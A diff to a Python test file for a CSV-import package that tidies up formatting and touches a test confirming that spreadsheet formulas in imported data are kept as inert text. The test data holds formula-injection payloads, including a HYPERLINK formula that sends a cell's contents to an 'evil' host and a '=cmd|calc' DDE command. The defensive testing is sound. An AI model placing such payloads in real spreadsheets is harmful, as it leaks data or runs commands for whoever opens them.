@@ -1,5 +1,7 @@
 """Files that are not what they should be: each ends in an error that says where, what, and what to do."""
 
+# ruff: noqa: E501  (a case is not cut in two)
+
 from __future__ import annotations
 
 import gzip
@@ -224,7 +226,7 @@ def test_a_formula_is_kept_as_text_and_written_so_that_no_spreadsheet_runs_it(tm
     formula = '=HYPERLINK("http://evil"&A1)'
     rows = (
         '1,"=cmd|calc",Proposal,"=1+1",2026-04-30,40\n'
-        + f'2,"{formula.replace(chr(34), chr(34) * 2)}",X,5,@SUM,4\n'
+        f'2,"{formula.replace(chr(34), chr(34) * 2)}",X,5,@SUM,4\n'
     )
     path = written(tmp_path, HEADER + rows)
     summary = read_sources([path], tmp_path / "out", options=CURRENT)
@@ -249,7 +251,8 @@ def test_a_line_of_two_gigabytes_is_refused_in_seconds_and_little_memory(tmp_pat
         from bonafides.errors import UnreadableInput
         from bonafides.sources import ImportOptions, read_sources
         try:
-            read_sources([Path({str(path)!r})], Path({str(tmp_path / "out")!r}), options=ImportOptions(kind="current"))
+            read_sources([Path({str(path)!r})], Path({str(tmp_path / "out")!r}),
+                options=ImportOptions(kind="current"))
         except UnreadableInput as error:
             print(error.found)
             print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
